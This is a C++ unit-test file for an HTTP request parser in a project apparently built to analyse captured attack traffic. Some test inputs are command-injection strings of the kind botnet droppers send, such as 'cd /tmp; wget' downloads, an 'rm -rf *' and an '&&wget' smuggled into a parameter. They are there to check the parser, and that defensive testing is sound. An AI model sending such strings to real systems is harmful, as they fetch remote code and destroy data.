#include "payload/http_request.hpp"

#include <gtest/gtest.h>

#include <string>

namespace nightjar {
namespace {

HttpRequest read(std::string_view payload) {
  HttpRequest request;
  EXPECT_TRUE(read_http_request(payload, request)) << payload;
  return request;
}
std::string parameters_of(const HttpRequest& request) {
  std::string text;
  for (const HttpParameter& parameter : request.parameters)
    text += "[" + std::string(parameter.name) + "|" + std::string(parameter.value) + "]";
  return text;
}
std::string decoded(std::string_view text, bool plus = true) {
  std::string to = "what was there before";
  decode_percent(text, plus, to);
  return to;
}

TEST(HttpRequest, TellsAnOrdinaryRequestApart) {
  const HttpRequest request =
      read("POST /a/b.cgi?x=1&y=two%20words&z HTTP/1.1\r\nHost: h:81\r\nSOAPAction:  \"urn:x#Y\" \r\nContent-Length: 7\r\n\r\nuser=me&p=");
  EXPECT_EQ(request.method, "POST");
  EXPECT_EQ(request.target, "/a/b.cgi?x=1&y=two%20words&z");
  EXPECT_EQ(request.path, "/a/b.cgi");
  EXPECT_EQ(request.query, "x=1&y=two%20words&z");
  EXPECT_EQ(request.header("host"), "h:81");
  EXPECT_EQ(request.header("soapaction"), "\"urn:x#Y\"");
  EXPECT_EQ(request.header("Cookie"), "");
  EXPECT_EQ(request.body, "user=me&p=");
  EXPECT_EQ(parameters_of(request), "[x|1][y|two%20words][|z][user|me][p|]");
  EXPECT_EQ(request.query_parameters, 3U);
}

TEST(HttpRequest, ReadsOnOverWhatProgramsGetWrong) {
  // Blanks in the target, bare line feeds, no version, no blank line before the body, a body without a request.
  EXPECT_EQ(read("GET /shell?cd /tmp; wget http://h/a HTTP/1.1\nHost: h\n\n").query, "cd /tmp; wget http://h/a");
  EXPECT_EQ(read("GET /x").target, "/x");
  EXPECT_EQ(read("GET ").target, "");
  const HttpRequest forgotten = read("POST /a HTTP/1.1\r\nHost: h\r\n<?xml version=\"1.0\"?>\r\n<a>b</a>");
  EXPECT_EQ(forgotten.header("Host"), "h");
  EXPECT_EQ(forgotten.body, "<?xml version=\"1.0\"?>\r\n<a>b</a>");
  const HttpRequest body = read("\r\n <?xml.version=\"1.0\" ?><a>b</a>");
  EXPECT_EQ(body.method, "");
  EXPECT_EQ(body.body, "<?xml.version=\"1.0\" ?><a>b</a>");
}

TEST(HttpRequest, PutsFoldedHeadersTogether) {
  const HttpRequest request = read("GET / HTTP/1.1\r\nSOAPAction:\r\n urn:a#B\r\nX: one\r\n\ttwo\r\nY: 3\r\n\r\n");
  EXPECT_EQ(request.header("SOAPAction"), "urn:a#B");
  EXPECT_EQ(request.header("X"), "one\r\n\ttwo");
  EXPECT_EQ(request.header("Y"), "3");
}

TEST(HttpRequest, KeepsCommandsInOnePiece) {
  EXPECT_EQ(parameters_of(read("GET /s?cd+/tmp;rm+-rf+*;wget+http://h/x?a=1 HTTP/1.1\r\n\r\n")), "[|cd+/tmp;rm+-rf+*;wget+http://h/x?a=1]");
  EXPECT_EQ(parameters_of(read("GET /s?ip=1&&wget+x&b=2 HTTP/1.1\r\n\r\n")), "[ip|1&&wget+x][b|2]");
}

TEST(HttpRequest, HasTheParametersOfItsBody) {
  const auto of_body = [](const std::string& body) { return parameters_of(read("POST / HTTP/1.1\r\n\r\n" + body)); };
  EXPECT_EQ(of_body("a=1&b=\r\n"), "[a|1][b|]");
  EXPECT_EQ(of_body("{\"a\": \"b=c\", \"n\": 1, \"l\" : [\"x\\\"y\", \"z\"], \"cut\": \"`wg"), "[a|b=c][l|x\\\"y][l|z][cut|`wg]");
  EXPECT_EQ(of_body("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1;2\r\n--x\r\nContent-Disposition: form-data; name=\"f\"; "
                    "filename=\"s.sh\"\r\n\r\ncd /tmp\r\n--x\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\ncut"),
            "[a|1;2][b|cut]");
  EXPECT_EQ(of_body("<a b=\"c\">"), "");
  EXPECT_EQ(of_body("plain words"), "");
  EXPECT_EQ(of_body(" \r\n"), "");
}

TEST(HttpRequest, IsNothingElse) {
  HttpRequest request;
  for (const char* payload : {"", "   ", "\x16\x03\x01", "SSH-2.0-Go\r\n", "get / HTTP/1.1", "GET", "GE /", "root\r\n", "HELP\r\n",
                              "ABCDEFGHIJKLMNOPQRSTUVWXYZ /"})
    EXPECT_FALSE(read_http_request(payload, request)) << payload;
}

TEST(HttpRequest, EndsWhereTheNextOneBegins) {
  const std::string first = "GET /a HTTP/1.1\r\nReferer: http://h/GET HTTP\r\n\r\n";
  EXPECT_EQ(next_http_request(first + "POST /b HTTP/1.0\r\n\r\n"), first.size());
  EXPECT_EQ(next_http_request(first + "</x>GET /b HTTP/1.1\r\n\r\n"), first.size() + 4);
  EXPECT_EQ(next_http_request(first + "GET /b HTTP/"), first.size() + 12);
  EXPECT_EQ(next_http_request(first + "TARGET /b HTTP/1.1\r\n"), first.size() + 20);
  EXPECT_EQ(next_http_request(first), first.size());
  EXPECT_EQ(next_http_request(""), 0U);
}

TEST(HttpRequest, IsBoundedInHeadersAndParameters) {
  std::string many = "GET /?";
  for (int i = 0; i < 1'000; ++i) many += "a=1&";
  many += " HTTP/1.1\r\n";
  for (int i = 0; i < 1'000; ++i) many += "A: 1\r\n";
  many += "\r\nbody";
  const HttpRequest request = read(many);
  EXPECT_EQ(request.parameters.size(), HttpRequest::kMostParameters);
  EXPECT_EQ(request.headers.size(), HttpRequest::kMostHeaders);
  EXPECT_EQ(request.body, "body");
}

TEST(PercentCodes, AreDecodedWhereTheyAreWhole) {
  EXPECT_EQ(decoded("a%20b+c%2B%7c"), "a b c+|");
  EXPECT_EQ(decoded("a+b", false), "a+b");
  EXPECT_EQ(decoded("100%"), "100%");
  EXPECT_EQ(decoded("%4"), "%4");
  EXPECT_EQ(decoded("%zz%41"), "%zzA");
  EXPECT_EQ(decoded("%2541"), "%41");
}

TEST(PercentCodes, BytesAreFoundAgain) {
  const std::string text = "a%20b%41c";
  ASSERT_EQ(decoded(text), "a bAc");
  const std::size_t places[] = {0, 1, 4, 5, 8, 9, 9};
  for (std::size_t i = 0; i < 7; ++i) EXPECT_EQ(encoded_offset(text, i), places[i]) << i;
}

}  // namespace
}  // namespace nightjar
